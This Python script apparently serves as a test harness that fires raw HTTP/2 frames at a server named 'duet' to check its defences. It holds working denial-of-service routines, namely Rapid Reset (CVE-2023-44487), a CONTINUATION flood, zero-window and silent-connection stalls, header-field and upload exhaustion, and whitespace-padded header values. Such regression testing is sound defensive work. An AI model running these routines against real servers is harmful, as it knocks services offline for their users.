#!/usr/bin/env python3
"""Raw HTTP/2 frames at duet (tests/h2_attacks.rs runs this; needs python3-h2).

Usage: h2_frames.py HOST PORT ATTACK. Prints one line: how the server ended it, `goaway CODE`,
`closed` or `open` (still open when the script gave up), and how many frames were sent.
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame

def connect(host, port):
    sock = socket.create_connection((host, int(port)), timeout=10)
    config = h2.config.H2Configuration(client_side=True, header_encoding=None)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn

def outcome(sock, conn, deadline):
    """Reads until the server says GOAWAY or closes, or until `deadline`."""
    sock.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return "closed"
        if not data:
            return "closed"
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return "closed"
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                return "goaway %d" % event.error_code
    return "open"

def request_headers(path):
    return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"localhost"),
            (b":path", path.encode())]

def statuses(sock, conn, streams):
    """Reads until each of `streams` has a response head or a reset: `statuses A B` in their order
    (`reset`, or `none` if the server closed first)."""
    sock.settimeout(10)
    seen = {}
    while len(seen) < len(streams):
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                seen[event.stream_id] = dict(event.headers)[b":status"].decode()
            elif isinstance(event, h2.events.StreamReset):
                seen[event.stream_id] = "reset"
        sock.sendall(conn.data_to_send())
    return "statuses " + " ".join(seen.get(s, "none") for s in streams)

def send_quietly(sock, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False

def rapid_reset(host, port):
    """Opens streams and resets each at once (CVE-2023-44487)."""
    sock, conn = connect(host, port)
    sent = 0
    for i in range(20000):
        stream = 1 + 2 * i
        headers = HeadersFrame(stream)
        headers.data = conn.encoder.encode(request_headers("/rapid/%d" % i))
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        reset = RstStreamFrame(stream)
        reset.error_code = 8  # CANCEL
        if not send_quietly(sock, headers.serialize() + reset.serialize()):
            break
        sent += 2
    return outcome(sock, conn, time.monotonic() + 10), sent

def continuation_flood(host, port):
    """A HEADERS frame never ended, followed by CONTINUATION frames without end (CVE-2024-27316)."""
    sock, conn = connect(host, port)
    headers = HeadersFrame(1)
    headers.data = conn.encoder.encode(request_headers("/flood"))
    sent = 1 if send_quietly(sock, headers.serialize()) else 0
    block = conn.encoder.encode([(b"x-flood", b"a" * 4000)])
    for _ in range(20000):
        frame = ContinuationFrame(1)
        frame.data = block
        if not send_quietly(sock, frame.serialize()):
            break
        sent += 1
    return outcome(sock, conn, time.monotonic() + 10), sent

def silent(host, port):
    """The preface and SETTINGS, then nothing."""
    sock, conn = connect(host, port)
    return outcome(sock, conn, time.monotonic() + 10), 0

def zero_window(host, port, streams=10, size=2 * 1024 * 1024):
    """Announces a stream window of 0, opens STREAMS GETs for SIZE bytes each and grants nothing more.
    Prints `holding N` once N responses have started (their bodies stuck behind the window), then
    reads, granting nothing, until every stream is reset or 15 s pass: `reset=R` (streams reset by
    the server) and `ended=E` (streams the server ended)."""
    sock, conn = connect(host, port)
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for i in range(streams):
        conn.send_headers(1 + 2 * i, request_headers("/bytes/%d" % size), end_stream=True)
    sock.sendall(conn.data_to_send())
    sock.settimeout(0.2)
    started, reset, ended = set(), set(), set()
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and len(reset) + len(ended) < streams:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                started.add(event.stream_id)
                if len(started) == streams:
                    print("holding %d" % streams, flush=True)
            elif isinstance(event, h2.events.StreamReset):
                reset.add(event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                ended.add(event.stream_id)
        # SETTINGS and PING acknowledgements only: no WINDOW_UPDATE is ever sent.
        send_quietly(sock, conn.data_to_send())
    return "reset=%d ended=%d" % (len(reset), len(ended)), streams

def closed_within(sock, seconds):
    """Reads, answering nothing, until the server closes or SECONDS pass: `closed after S s` or
    `open`."""
    sock.settimeout(0.2)
    started = time.monotonic()
    while time.monotonic() < started + seconds:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            data = b""
        if not data:
            return "closed after %d s" % round(time.monotonic() - started)
    return "open"

def silent_forever(host, port):
    """The preface and SETTINGS, then not one byte (not the SETTINGS or PING acknowledgements):
    `closed after S s`, S counted from the preface, or `open` after 30 s."""
    sock, _ = connect(host, port)
    return closed_within(sock, 30), 0

def silent_after_a_request(host, port):
    """One GET answered in full, then not one byte (not the PING acknowledgement of the GOAWAY):
    `closed after S s`, S counted from the response, or `open` after 30 s."""
    sock, conn = connect(host, port)
    conn.send_headers(1, request_headers("/first"), end_stream=True)
    sock.sendall(conn.data_to_send())
    sock.settimeout(10)
    ended = False
    while not ended:
        data = sock.recv(65536)
        if not data:
            return "closed before the response", 1
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            ended = ended or isinstance(event, h2.events.StreamEnded)
        sock.sendall(conn.data_to_send())
    return closed_within(sock, 30), 1

def late_preface(host, port):
    """Connects, says nothing for 1.5 s, then sends the preface and one GET: `status S`."""
    sock = socket.create_connection((host, int(port)), timeout=10)
    time.sleep(1.5)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    conn.send_headers(1, request_headers("/late"), end_stream=True)
    sock.sendall(conn.data_to_send())
    while True:
        data = sock.recv(65536)
        if not data:
            return "closed", 1
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                return "status %s" % dict(event.headers)[b":status"].decode(), 1
        sock.sendall(conn.data_to_send())

def many_fields(host, port):
    """A GET with 1,500 header fields (60 KB of header list, under the 64 KiB limit), then one with
    50: `statuses A B`."""
    sock, conn = connect(host, port)
    fields = {1: 1500, 3: 50}
    for stream, count in fields.items():
        headers = request_headers("/fields/%d" % count)
        headers += [(b"x-f%d" % i, b"v") for i in range(count)]
        conn.send_headers(stream, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    return statuses(sock, conn, fields), len(fields)

def buffered_uploads(host, port, streams=100, length=1000000, seconds=8):
    """STREAMS POSTs to /upload/buffered announcing LENGTH bytes each, sending all but the last byte
    as fast as the server's windows allow, for SECONDS: `uploaded B` (the bytes the server took)."""
    sock, conn = connect(host, port)
    for i in range(streams):
        headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"localhost"),
                   (b":path", b"/upload/buffered/%d" % i), (b"content-length", b"%d" % length)]
        conn.send_headers(1 + 2 * i, headers)
    sock.sendall(conn.data_to_send())
    left = {1 + 2 * i: length - 1 for i in range(streams)}
    chunk = b"x" * conn.max_outbound_frame_size
    sock.settimeout(0.05)
    deadline = time.monotonic() + seconds
    uploaded = 0
    while time.monotonic() < deadline:
        for stream, remaining in left.items():
            try:
                window = conn.local_flow_control_window(stream)
            except h2.exceptions.StreamClosedError:
                continue
            size = min(remaining, window, len(chunk))
            if size > 0:
                conn.send_data(stream, chunk[:size])
                left[stream] -= size
                uploaded += size
        if not send_quietly(sock, conn.data_to_send()):
            break
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        conn.receive_data(data)
    return "uploaded %d" % uploaded, streams

def settings(host, port):
    """Not an attack: what the server grants, as `settings max_concurrent_streams=N
    max_header_list_size=M initial_window_size=W connection_window=C`, C being the connection's window
    after the server's first WINDOW_UPDATE on stream 0 (65535 if it sends none within 2 s)."""
    sock, conn = connect(host, port)
    sock.settimeout(0.2)
    deadline = time.monotonic() + 10
    seen = None
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.RemoteSettingsChanged) and seen is None:
                seen = time.monotonic()
                # The connection's window comes in its own frame, sent after the client's preface.
                deadline = seen + 2
            if isinstance(event, h2.events.WindowUpdated) and event.stream_id == 0:
                deadline = 0
    if seen is None:
        return "no settings", 0
    remote = conn.remote_settings
    return ("settings max_concurrent_streams=%d max_header_list_size=%d initial_window_size=%d "
            "connection_window=%d" % (remote.max_concurrent_streams, remote.max_header_list_size,
                                      remote.initial_window_size, conn.outbound_flow_control_window)), 0

def cookies_and_padded_values(host, port):
    """Raw HEADERS a browser and an attacker send: a GET whose cookie is three fields (as HTTP/2
    lets a client split it for compression), then GETs whose x-role value is padded with a space or
    a tab, which RFC 9113 §8.2.1 calls malformed: `statuses A B C`."""
    sock = socket.create_connection((host, int(port)), timeout=10)
    config = h2.config.H2Configuration(client_side=True, header_encoding=None,
                                       validate_outbound_headers=False,
                                       normalize_outbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    requests = {
        1: request_headers("/c") + [(b"cookie", b"a=1"), (b"cookie", b"b=2"), (b"cookie", b"c=3")],
        3: request_headers("/w") + [(b"x-role", b" admin")],
        5: request_headers("/w") + [(b"x-role", b"admin\t")],
    }
    for stream, headers in requests.items():
        conn.send_headers(stream, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    return statuses(sock, conn, requests), len(requests)

def backend(host, port):
    """Not an attack: an h2c backend for one connection, on PORT (0: any). Prints `listening PORT`, then,
    at its first request, what duet granted it: `backend initial_window_size=W connection_window=C`;
    answers 200 `ok`."""
    listener = socket.socket()
    listener.bind((host, int(port)))
    listener.listen(1)
    listener.settimeout(30)
    print("listening %d" % listener.getsockname()[1], flush=True)
    sock, _ = listener.accept()
    sock.settimeout(30)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=False, header_encoding=None))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    while True:
        data = sock.recv(65536)
        if not data:
            return "closed", 0
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.RequestReceived):
                print("backend initial_window_size=%d connection_window=%d"
                      % (conn.remote_settings.initial_window_size,
                         conn.outbound_flow_control_window), flush=True)
                conn.send_headers(event.stream_id, [(b":status", b"200"), (b"content-length", b"2")])
                conn.send_data(event.stream_id, b"ok", end_stream=True)
                sock.sendall(conn.data_to_send())
                return "served", 0
        sock.sendall(conn.data_to_send())

ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent,
           "zero_window": zero_window, "silent_forever": silent_forever,
           "silent_after_a_request": silent_after_a_request, "late_preface": late_preface,
           "many_fields": many_fields, "buffered_uploads": buffered_uploads,
           "cookies_and_padded_values": cookies_and_padded_values}

if __name__ == "__main__":
    host, port, attack = sys.argv[1:4]
    result, sent = ATTACKS[attack](host, port)
    print("%s sent=%d" % (result, sent))
